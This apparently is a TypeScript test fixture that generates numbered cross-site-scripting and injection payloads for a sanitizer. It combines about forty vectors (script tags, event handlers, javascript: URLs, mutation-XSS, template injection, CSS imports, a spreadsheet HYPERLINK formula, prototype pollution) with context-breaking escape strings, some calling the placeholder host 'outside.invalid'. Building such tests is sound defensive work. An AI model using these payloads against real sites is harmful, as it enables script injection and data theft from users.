/** A host that nothing may contact; an executed payload may try to. */
export const OUTSIDE = 'outside.invalid'

const actions = [
  (number: number) => `globalThis.breached=${number}`,
  (number: number) => `alert(${number})`,
  (number: number) => `fetch('https://${OUTSIDE}/${number}')`,
  (number: number) => `top.breached=${number}`,
]

type Vector = (script: string, number: number) => string

/** Ways in which text becomes a script, a request or a page if it is treated as markup, a URL or code. */
const vectors: readonly Vector[] = [
  (script) => `<script>${script}</script>`,
  (_, number) => `<script src=//${OUTSIDE}/${number}.js></script>`,
  (script) => `<img src=x onerror=${script}>`,
  (_, number) => `<img src="https://${OUTSIDE}/${number}.png">`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<body onload=${script}>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (_, number) => `<iframe src="https://${OUTSIDE}/${number}"></iframe>`,
  (script) => `<a href="javascript:${script}">open</a>`,
  (script) => `<a href=" &#106;avascript:${script}">open</a>`,
  (script) => `javascript:${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<video><source onerror=${script}></video>`,
  (script) => `<audio src=x onerror=${script}>`,
  (script) => `<marquee onstart=${script}>`,
  (script) => `<math><mtext></p><style><!--</style><img src onerror=${script}>--></math>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<table><caption><svg><desc><img src=x onerror=${script}></table>`,
  (_, number) => `<style>@import'//${OUTSIDE}/${number}.css';</style>`,
  (_, number) => `<link rel=stylesheet href=//${OUTSIDE}/${number}.css>`,
  (_, number) => `<div style="background:url(//${OUTSIDE}/${number}.png)">`,
  (_, number) => `<meta http-equiv=refresh content="0;url=https://${OUTSIDE}/${number}">`,
  (_, number) => `<base href="https://${OUTSIDE}/${number}/">`,
  (script) => `<object data="javascript:${script}"></object>`,
  (_, number) => `<embed src="https://${OUTSIDE}/${number}.swf">`,
  (_, number) => `<form action=https://${OUTSIDE}/${number}><button autofocus>go</button></form>`,
  (script) => `{{constructor.constructor('${script.replaceAll("'", '"')}')()}}`,
  (script) => `\${${script}}`,
  (script) => `\\u003cimg src=x onerror=${script}\\u003e`,
  (script) => `&lt;img src=x onerror=${script}&gt;`,
  (script) => `%3Cimg%20src%3Dx%20onerror%3D${encodeURIComponent(script)}%3E`,
  (script) => `<ScRiPt/x>${script}</sCrIpT>`,
  (script) => `<img/src=x/onerror=${script}//`,
  (script) => `<\u0000script>${script}</script>`.replace('\u0000', ''),
  (_, number) => `[link](javascript:breached=${number}) ![image](https://${OUTSIDE}/${number}.png)`,
  (_, number) => `=HYPERLINK("https://${OUTSIDE}/${number}","open")`,
  (_, number) => `{"__proto__":{"innerHTML":"<img src=x onerror=breached=${number}>"}}`,
]

/** Ways to break out of the context of the text. */
const escapes = ['', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '`>', '"}]}', "');"]

/** Different payloads, each with its own number: first every vector alone, then after every escape. */
export function payloads(count: number): string[] {
  return Array.from({ length: count }, (_, number) => {
    const vector = vectors[number % vectors.length] as Vector
    const round = Math.floor(number / vectors.length)
    const action = actions[(number + round) % actions.length] as (typeof actions)[number]
    return `${escapes[round % escapes.length]}${vector(action(number), number)}`
  })
}
